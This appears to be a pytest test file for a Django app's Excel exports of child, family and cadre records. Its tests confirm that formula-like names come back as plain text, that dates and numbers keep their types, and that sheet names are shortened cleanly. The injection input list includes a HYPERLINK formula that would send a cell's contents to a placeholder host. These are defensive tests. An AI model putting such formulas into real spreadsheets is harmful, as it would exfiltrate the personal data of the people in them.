"""The one Excel writer: real dates and numbers, whole sheet names, aligned headers, and text
that Excel would take for a formula written as text."""

import datetime
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from kelurahan import xlsx
from stunting.queries import ACTION_LISTS

from .factories_kpm import make_kader
from .factories_stunting import make_child, make_family, make_measurement

DANGEROUS = [
    '=HYPERLINK("http://x/?d="&C2,"Klik")',
    "+6281234567890",
    "-2+3",
    "@SUM(A1:A2)",
    "\tTab di depan",
    "\rCR di depan",
]


def read(response):
    return load_workbook(io.BytesIO(response.content)).active


def cells_of_column(sheet, header):
    rows = list(sheet.iter_rows())
    index = [c.value for c in rows[0]].index(header)
    return [row[index] for row in rows[1:]]


def same_text(read_back: str, written: str) -> bool:
    # XML turns a carriage return into a line feed; it is still text, not a formula.
    return read_back == written or read_back == written.replace("\r", "\n")


def test_cadre_names_that_look_like_formulas_come_back_as_text(client, kelurahan, petugas):
    for name in DANGEROUS:
        make_kader(kelurahan, name=name)
    client.force_login(petugas)
    sheet = read(client.get(reverse("kpm:kader_export")))
    cells = cells_of_column(sheet, "Nama lengkap")
    assert len(cells) == len(DANGEROUS)
    assert all(c.data_type == "s" for c in cells)
    for name in DANGEROUS:
        assert any(same_text(c.value, name) for c in cells), name


def test_child_names_that_look_like_formulas_come_back_as_text(client, kelurahan, petugas):
    family = make_family(kelurahan, head_name="=1+1")
    for name in DANGEROUS:
        make_child(family, name=name)
    client.force_login(petugas)
    sheet = read(client.get(reverse("stunting:child_list_xlsx")))
    cells = cells_of_column(sheet, "Nama anak")
    assert all(c.data_type == "s" for c in cells)
    for name in DANGEROUS:
        assert any(same_text(c.value, name) for c in cells), name
    heads = cells_of_column(sheet, "Kepala keluarga")
    assert {(c.value, c.data_type) for c in heads} == {("=1+1", "s")}


def test_exports_write_real_dates_and_numbers(client, kelurahan, petugas):
    child = make_child(make_family(kelurahan), name="Bima", age_days=300)
    make_measurement(child, weight="8.45", height="70.5")
    kader = make_kader(kelurahan, name="Siti")
    client.force_login(petugas)
    sheet = read(client.get(reverse("stunting:child_list_xlsx")))
    (birth,) = cells_of_column(sheet, "Tanggal lahir")
    assert birth.is_date and birth.value.date() == child.birth_date
    (weight,) = cells_of_column(sheet, "Berat (kg)")
    assert weight.value == pytest.approx(8.45) and weight.data_type == "n"
    sheet = read(client.get(reverse("kpm:kader_export")))
    (birth,) = cells_of_column(sheet, "Tanggal lahir")
    assert birth.is_date and birth.value.date() == kader.birth_date
    headers = [c.value for c in next(sheet.iter_rows())]
    assert all(len(row) == len(headers) for row in sheet.iter_rows())


def test_every_action_list_sheet_has_a_whole_name(client, kelurahan, petugas):
    client.force_login(petugas)
    for item in ACTION_LISTS.values():
        assert len(item.sheet) <= xlsx.SHEET_NAME_MAX
        response = client.get(reverse("stunting:action_list_xlsx", args=[item.slug]))
        book = load_workbook(io.BytesIO(response.content))
        assert book.sheetnames == [str(item.sheet)]


def test_a_long_sheet_name_is_shortened_at_a_word_boundary():
    name = xlsx.sheet_name("Anak stunting (pendek dan sangat pendek)")
    assert name == "Anak stunting (pendek dan"
    assert xlsx.sheet_name("Register: kader/KPM?") == "Register kaderKPM"
    assert xlsx.sheet_name("Ibu hamil") == "Ibu hamil"


def test_the_writer_keeps_values_and_types():
    columns = [
        xlsx.Column("Tanggal", lambda r: r["day"]),
        xlsx.Column("Angka", lambda r: r["n"]),
        xlsx.Column("Teks", lambda r: r["text"]),
    ]
    rows = [{"day": datetime.date(2020, 12, 21), "n": 3, "text": "-ok\x01"}]
    book = load_workbook(io.BytesIO(xlsx.workbook(xlsx.Sheet("Uji", columns, rows))))
    header, row = list(book["Uji"].iter_rows())
    assert [c.value for c in header] == ["Tanggal", "Angka", "Teks"]
    assert row[0].value == datetime.datetime(2020, 12, 21) and row[0].number_format == "DD-MM-YYYY"
    assert (row[1].value, row[2].value, row[2].data_type) == (3, "-ok", "s")
